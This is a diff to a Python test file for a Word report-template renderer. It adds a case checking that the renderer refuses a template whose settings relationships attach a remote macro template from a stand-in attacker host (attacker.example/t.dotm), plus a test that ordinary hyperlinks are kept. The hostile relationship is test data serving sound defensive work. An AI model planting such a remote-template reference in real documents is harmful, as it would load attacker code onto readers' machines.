@@ -147,6 +147,21 @@ BROKEN.append(
         _MACROS,
     )
 )
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_SETTINGS_RELS = (
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    f'<Relationship Id="rId1" Type="{_REL}/attachedTemplate" Target="https://attacker.example/t.dotm"'
+    ' TargetMode="External"/></Relationships>'
+).encode()
+BROKEN.append(
+    (
+        "remote-template",
+        _rebuild(_base(), {"word/_rels/settings.xml.rels": _SETTINGS_RELS}),
+        "word/_rels/settings.xml.rels 引用外部资源 https://attacker.example/t.dotm（attachedTemplate）："
+        "Word 打开生成的文档时会去取它，拒绝 (external resources are refused)",
+    )
+)
 _IDS = [b[0] for b in BROKEN]
 
 
@@ -253,6 +268,14 @@ def test_a_directory_is_not_a_template(tmp_path: Path) -> None:
     with pytest.raises(TemplateError) as info:
         govreport.Template(tmp_path)
     assert str(info.value) == f"{tmp_path}: 无法读取模板：Is a directory"
+
+
+def test_an_external_hyperlink_is_kept(tmp_path: Path) -> None:
+    """A hyperlink to a web page is only followed when clicked: the template is used as it is."""
+    rels = _SETTINGS_RELS.replace(b"attachedTemplate", b"hyperlink")
+    data = _rebuild(_base(), {"word/_rels/document.xml.rels": rels})
+    out = govreport.Template(data).render(Report.new("某局", 2024), tmp_path / "r.docx")
+    assert zipfile.ZipFile(out).read("word/_rels/document.xml.rels") == rels
 
 
 def test_a_dotx_renders_as_a_document(tmp_path: Path) -> None:
